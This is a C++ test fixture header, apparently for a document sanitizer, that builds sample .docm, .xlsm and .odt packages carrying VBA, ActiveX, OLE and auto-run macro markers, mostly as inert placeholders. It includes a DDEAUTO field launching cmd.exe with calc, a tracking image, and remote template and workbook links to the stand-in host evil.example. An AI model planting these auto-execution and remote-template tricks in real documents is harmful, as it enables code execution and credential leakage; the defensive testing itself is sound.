// Office/ODF packages built in code with the zip writer (tests and bench/cdr_ooxml_bench.cpp):
// a .docm with VBA, ActiveX, an OLE object, an external template and a DDEAUTO field; an .xlsm
// with VBA and an external workbook link; an .odt with Basic macros and event listeners. The
// "active" members are inert placeholder bytes: what matters is where they sit and what points
// at them. No hostile bytes are committed.
#pragma once

#include <string>
#include <string_view>
#include <utility>
#include <vector>

#include "src/zip/zip.h"

namespace mugai::test::office {

using Members = std::vector<std::pair<std::string, std::string>>;

inline std::string pack(const Members& members) {
  zip::Writer w;
  for (const auto& [name, data] : members) {
    if (name == "mimetype") w.addStored(name, data);
    else w.addDeflated(name, data);
  }
  return *w.finish();
}

constexpr std::string_view kDocText = "Mugai sample paragraph for the rebuild test";
constexpr std::string_view kDdeResult = "Shown field result";

inline Members docmMembers() {
  Members m;
  m.push_back({"[Content_Types].xml",
               R"(<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/><Override PartName="/word/document.xml" ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/><Override PartName="/word/settings.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.settings+xml"/><Override PartName="/word/vbaData.xml" ContentType="application/vnd.ms-word.vbaData+xml"/><Override PartName="/word/activeX/activeX1.xml" ContentType="application/vnd.ms-office.activeX+xml"/><Override PartName="/word/activeX/activeX1.bin" ContentType="application/vnd.ms-office.activeX"/><Override PartName="/word/embeddings/oleObject1.bin" ContentType="application/vnd.openxmlformats-officedocument.oleObject"/></Types>)"});
  m.push_back({"_rels/.rels",
               R"(<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="word/document.xml"/></Relationships>)"});
  std::string doc = R"(<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships" xmlns:o="urn:schemas-microsoft-com:office:office" xmlns:v="urn:schemas-microsoft-com:vml"><w:body>
<w:p><w:r><w:t>)" + std::string(kDocText) + R"(</w:t></w:r></w:p>
<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText xml:space="preserve"> DDE</w:instrText></w:r><w:r><w:instrText xml:space="preserve">AUTO c:\\windows\\system32\\cmd.exe "/k calc"</w:instrText></w:r><w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>)" + std::string(kDdeResult) + R"(</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>
<w:p><w:fldSimple w:instr=" INCLUDEPICTURE &quot;http://tracker.example/p.png&quot; \d"><w:r><w:t>Simple field text</w:t></w:r></w:fldSimple></w:p>
<w:p><w:fldSimple w:instr=" PAGE "><w:r><w:t>1</w:t></w:r></w:fldSimple></w:p>
<w:p><w:r><w:object><o:OLEObject Type="Embed" ProgID="Package" ShapeID="_x0000_i1025" DrawAspect="Icon" ObjectID="_1" r:id="rId3"/></w:object></w:r></w:p>
<w:p><w:r><w:object><w:control r:id="rId4" w:name="CommandButton1" w:shapeid="_x0000_i1026"/></w:object></w:r></w:p>
<w:p><w:hyperlink r:id="rId6"><w:r><w:t>Example link</w:t></w:r></w:hyperlink></w:p>
<w:sectPr/></w:body></w:document>)";
  m.push_back({"word/document.xml", doc});
  m.push_back({"word/_rels/document.xml.rels",
               R"(<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject" Target="vbaProject.bin"/><Relationship Id="rId2" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/settings" Target="settings.xml"/><Relationship Id="rId3" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/oleObject" Target="embeddings/oleObject1.bin"/><Relationship Id="rId4" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/control" Target="activeX/activeX1.xml"/><Relationship Id="rId6" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink" Target="http://example.org/" TargetMode="External"/></Relationships>)"});
  m.push_back({"word/settings.xml",
               R"(<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<w:settings xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><w:attachedTemplate r:id="rId1"/><w:defaultTabStop w:val="720"/></w:settings>)"});
  m.push_back({"word/_rels/settings.xml.rels",
               R"(<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="file:///\\evil.example\share\template.dotm" TargetMode="External"/></Relationships>)"});
  m.push_back({"word/vbaProject.bin", std::string("\xd0\xcf\x11\xe0 inert VBA placeholder", 26)});
  m.push_back({"word/_rels/vbaProject.bin.rels",
               R"(<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.microsoft.com/office/2006/relationships/wordVbaData" Target="vbaData.xml"/></Relationships>)"});
  m.push_back({"word/vbaData.xml", R"(<?xml version="1.0"?><wne:vbaSuppData xmlns:wne="http://schemas.microsoft.com/office/word/2006/wordml"/>)"});
  m.push_back({"word/activeX/activeX1.xml",
               R"(<?xml version="1.0"?><ax:ocx xmlns:ax="http://schemas.microsoft.com/office/2006/activeX" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships" ax:classid="{D7053240-CE69-11CD-A777-00DD01143C57}" ax:persistence="persistStreamInit" r:id="rId1"/>)"});
  m.push_back({"word/activeX/_rels/activeX1.xml.rels",
               R"(<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.microsoft.com/office/2006/relationships/activeXControlBinary" Target="activeX1.bin"/></Relationships>)"});
  m.push_back({"word/activeX/activeX1.bin", "inert ActiveX placeholder"});
  m.push_back({"word/embeddings/oleObject1.bin", "inert OLE placeholder"});
  return m;
}

inline std::string docm() { return pack(docmMembers()); }

constexpr std::string_view kSheetText = "Mugai spreadsheet cell text";

inline Members xlsmMembers() {
  Members m;
  m.push_back({"[Content_Types].xml",
               R"(<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/><Override PartName="/xl/workbook.xml" ContentType="application/vnd.ms-excel.sheet.macroEnabled.main+xml"/><Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/><Override PartName="/xl/externalLinks/externalLink1.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.externalLink+xml"/></Types>)"});
  m.push_back({"_rels/.rels",
               R"(<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="xl/workbook.xml"/></Relationships>)"});
  m.push_back({"xl/workbook.xml",
               R"(<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><sheets><sheet name="Sheet1" sheetId="1" r:id="rId1"/></sheets><externalReferences><externalReference r:id="rId3"/></externalReferences></workbook>)"});
  m.push_back({"xl/_rels/workbook.xml.rels",
               R"(<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet" Target="worksheets/sheet1.xml"/><Relationship Id="rId2" Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject" Target="vbaProject.bin"/><Relationship Id="rId3" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/externalLink" Target="externalLinks/externalLink1.xml"/></Relationships>)"});
  m.push_back({"xl/worksheets/sheet1.xml",
               R"(<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>)" +
                   std::string(kSheetText) + R"(</t></is></c></row><row r="2"><c r="A2"><v>42</v></c></row></sheetData></worksheet>)"});
  m.push_back({"xl/vbaProject.bin", "inert VBA placeholder"});
  m.push_back({"xl/externalLinks/externalLink1.xml",
               R"(<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><externalBook r:id="rId1"><sheetNames><sheetName val="Secret"/></sheetNames></externalBook></externalLink>)"});
  m.push_back({"xl/externalLinks/_rels/externalLink1.xml.rels",
               R"(<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/externalLinkPath" Target="file:///\\evil.example\share\book.xlsx" TargetMode="External"/></Relationships>)"});
  return m;
}

inline std::string xlsm() { return pack(xlsmMembers()); }

constexpr std::string_view kOdtText = "Mugai OpenDocument paragraph";

inline Members odtMembers() {
  Members m;
  m.push_back({"mimetype", "application/vnd.oasis.opendocument.text"});
  m.push_back({"content.xml",
               R"(<?xml version="1.0" encoding="UTF-8"?>
<office:document-content xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" xmlns:script="urn:oasis:names:tc:opendocument:xmlns:script:1.0" xmlns:xlink="http://www.w3.org/1999/xlink" xmlns:dom="http://www.w3.org/2001/xml-events" office:version="1.2"><office:scripts><office:script script:language="ooo:Basic"/></office:scripts><office:body><office:text><office:event-listeners><script:event-listener script:language="ooo:script" script:event-name="dom:load" xlink:href="vnd.sun.star.script:Standard.Module1.AutoRun?language=Basic&amp;location=document"/></office:event-listeners><text:p>)" +
                   std::string(kOdtText) + R"(</text:p><text:p><text:a xlink:type="simple" xlink:href="vnd.sun.star.script:Standard.Module1.Click?language=Basic&amp;location=document">Click text stays</text:a></text:p><text:p><text:a xlink:type="simple" xlink:href="https://example.org/">Web link stays</text:a></text:p></office:text></office:body></office:document-content>)"});
  m.push_back({"styles.xml",
               R"(<?xml version="1.0" encoding="UTF-8"?>
<office:document-styles xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" office:version="1.2"/>)"});
  m.push_back({"Basic/script-lc.xml",
               R"(<?xml version="1.0" encoding="UTF-8"?><library:libraries xmlns:library="http://openoffice.org/2000/library"><library:library library:name="Standard" library:link="false"/></library:libraries>)"});
  m.push_back({"Basic/Standard/script-lb.xml",
               R"(<?xml version="1.0" encoding="UTF-8"?><library:library xmlns:library="http://openoffice.org/2000/library" library:name="Standard" library:readonly="false" library:passwordprotected="false"><library:element library:name="Module1"/></library:library>)"});
  m.push_back({"Basic/Standard/Module1.xml",
               R"(<?xml version="1.0" encoding="UTF-8"?><script:module xmlns:script="http://openoffice.org/2000/script" script:name="Module1" script:language="StarBasic">Sub AutoRun
  Rem inert placeholder
End Sub</script:module>)"});
  m.push_back({"META-INF/manifest.xml",
               R"(<?xml version="1.0" encoding="UTF-8"?>
<manifest:manifest xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0" manifest:version="1.2"><manifest:file-entry manifest:full-path="/" manifest:version="1.2" manifest:media-type="application/vnd.oasis.opendocument.text"/><manifest:file-entry manifest:full-path="content.xml" manifest:media-type="text/xml"/><manifest:file-entry manifest:full-path="styles.xml" manifest:media-type="text/xml"/><manifest:file-entry manifest:full-path="Basic/script-lc.xml" manifest:media-type="text/xml"/><manifest:file-entry manifest:full-path="Basic/Standard/script-lb.xml" manifest:media-type="text/xml"/><manifest:file-entry manifest:full-path="Basic/Standard/Module1.xml" manifest:media-type="text/xml"/><manifest:file-entry manifest:full-path="Basic/Standard/" manifest:media-type=""/><manifest:file-entry manifest:full-path="Basic/" manifest:media-type=""/></manifest:manifest>)"});
  return m;
}

inline std::string odt() { return pack(odtMembers()); }

}  // namespace mugai::test::office
